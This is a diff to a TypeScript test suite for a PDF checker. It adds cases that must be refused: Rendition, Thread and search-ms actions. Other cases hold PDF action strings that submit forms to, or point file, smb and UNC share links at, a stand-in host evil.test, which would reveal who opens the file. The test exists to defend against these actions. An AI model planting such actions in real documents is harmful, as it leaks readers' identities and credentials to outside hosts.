@@ -77,6 +77,8 @@ const elsewhere: Omit<Case, 1>[] | [string, () => Buffer | Promise<Buffer>][] = 
   ],
   ['opens a page of the Web from a stream of objects', () => packed([...PACKED_PAGE, URI])],
   ['opens another PDF', () => catalogued('/OpenAction<</S/GoToR/F(annex.pdf)/D[0/Fit]>>')],
+  ['plays a film of another machine', () => catalogued('/OpenAction<</S/Rendition/OP 0/R<</S/MR/C<<>>>>>>')],
+  ['opens a thread of another PDF', () => catalogued('/OpenAction<</S/Thread/F(annex.pdf)/D 0>>')],
   ['sends a form when a page is seen', () => paged('/AA<</O<</S/SubmitForm/F(https://evil.test/)>>>>')],
   ['opens a page of the Web when a page is seen', () => paged('/AA 4 0 R', '<</O 5 0 R>>', URI)],
   [
@@ -110,6 +112,7 @@ test.each<[string, string]>([
   ['an address of a share', '/A<</S/URI/URI(file://evil.test/x.pdf)>>'],
   ['an address of a share in four slashes', '/A<</S/URI/URI( FILE:////evil.test/x)>>'],
   ['an address of a Windows share', '/A<</S/URI/URI(smb://evil.test/x)>>'],
+  ['a search of a share', '/A<</S/URI/URI(search-ms:query=policy&crumb=location:\\\\evil.test\\x)>>'],
   ['a share in another object', '/A<</S/GoToR/F 5 0 R>>'],
 ])('%s is refused: Windows would tell it who opens the file', (_case, entries) => {
   const file = annotated(`/Subtype/Link${entries}`, '(\\\\\\\\evil.test\\\\x.pdf)');
